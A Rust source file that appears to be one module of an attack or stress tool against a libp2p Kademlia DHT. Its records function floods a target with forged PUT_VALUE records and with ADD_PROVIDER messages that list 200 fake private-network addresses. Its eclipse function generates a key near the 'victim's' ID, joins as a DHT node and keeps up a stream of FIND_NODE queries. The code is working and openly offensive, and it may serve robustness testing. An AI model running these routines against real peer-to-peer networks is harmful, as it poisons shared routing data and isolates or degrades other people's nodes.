//! A DHT full of junk, and many keys at one address that want to be all of it.

use std::{io, sync::Arc, time::Duration};

use futures::AsyncWriteExt as _;
use libp2p::{identity::Keypair, multiaddr::Multiaddr};
use tokio::time::{sleep, timeout};

use super::session;
use crate::{
    Target,
    client::{Introduction, Session, until_ended},
    proto::Proto,
    tally::Tally,
};

/// Kinds of messages.
const PUT_VALUE: u64 = 0;
const ADD_PROVIDER: u64 = 2;
const FIND_NODE: u64 = 4;

/// Messages on one connection, after which another key comes.
const MESSAGES: u64 = 500;

fn protocol(target: &Target) -> String {
    format!("/dunlin/{}/kad/1.0.0", target.network)
}

/// Puts records that nobody made, and provides what nobody has, at private addresses.
pub(super) async fn records(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
    let protocol = protocol(target);
    let session = session(target, number, &[&protocol], tally).await?;
    for count in 0..MESSAGES {
        let mut stream = session.stream(&protocol).await?;
        tally.opened();
        let message = junk(count).framed();
        let sent = async {
            stream.write_all(&message).await?;
            stream.flush().await?;
            stream.close().await
        };
        match timeout(Duration::from_secs(5), sent).await {
            Ok(Ok(())) => tally.sent(message.len()),
            _ => tally.ended(),
        }
        timeout(Duration::from_millis(50), until_ended(stream)).await.ok();
    }
    Ok(())
}

fn junk(count: u64) -> Proto {
    let stranger = Keypair::generate_ed25519().public().to_peer_id();
    let mut key = b"/junk/".to_vec();
    key.extend(stranger.to_bytes());
    if count.is_multiple_of(2) {
        let record = Proto::default().bytes(1, &key).bytes(2, &vec![0x33; 12_000]);
        return Proto::default().number(1, PUT_VALUE).bytes(2, &key).message(3, record);
    }
    // A multihash of sha2-256, and providers that live in everybody's own network.
    let mut hash = vec![0x12, 0x20];
    hash.extend(key.iter().rev().take(32));
    let provider =
        (0..200_u8).fold(Proto::default().bytes(1, &stranger.to_bytes()), |provider, last| {
            let address: Multiaddr = [
                libp2p::multiaddr::Protocol::Ip4([192, 168, 1, last].into()),
                libp2p::multiaddr::Protocol::Tcp(4601),
            ]
            .into_iter()
            .collect();
            provider.bytes(2, &address.to_vec())
        });
    Proto::default().number(1, ADD_PROVIDER).bytes(2, &hash).message(9, provider)
}

/// Joins with a key that is near the victim's, claims to be a node of the DHT, and stays.
pub(super) async fn eclipse(target: &Target, tally: &Arc<Tally>) -> io::Result<()> {
    let protocol = protocol(target);
    let keypair = near(target);
    let introduction = {
        let address: Multiaddr =
            format!("/ip4/{}/tcp/{}", target.from, 1).parse().map_err(io::Error::other)?;
        let message = Introduction::begin(target, &keypair)
            .bytes(2, &address.to_vec())
            .bytes(3, protocol.as_bytes());
        Introduction::new(message.framed())
    };
    // All of them come from one address.
    let session = Session::open(target, 0, &keypair, introduction, tally).await?;
    while !session.is_over() {
        let mut stream = session.stream(&protocol).await?;
        tally.opened();
        let message = Proto::default().number(1, FIND_NODE).bytes(2, &target.peer.to_bytes());
        let message = message.framed();
        stream.write_all(&message).await?;
        stream.flush().await?;
        tally.sent(message.len());
        timeout(Duration::from_millis(200), until_ended(stream)).await.ok();
        sleep(Duration::from_millis(20)).await;
    }
    Ok(())
}

/// Looks for a key that the DHT puts beside the victim's: the first bits of their hashes are equal.
fn near(target: &Target) -> Keypair {
    use libp2p::kad::KBucketKey;
    let victim = KBucketKey::from(target.peer);
    let distance =
        |keypair: &Keypair| KBucketKey::from(keypair.public().to_peer_id()).distance(&victim);
    let candidates = (0..64).map(|_| Keypair::generate_ed25519());
    candidates.min_by_key(distance).unwrap_or_else(Keypair::generate_ed25519)
}
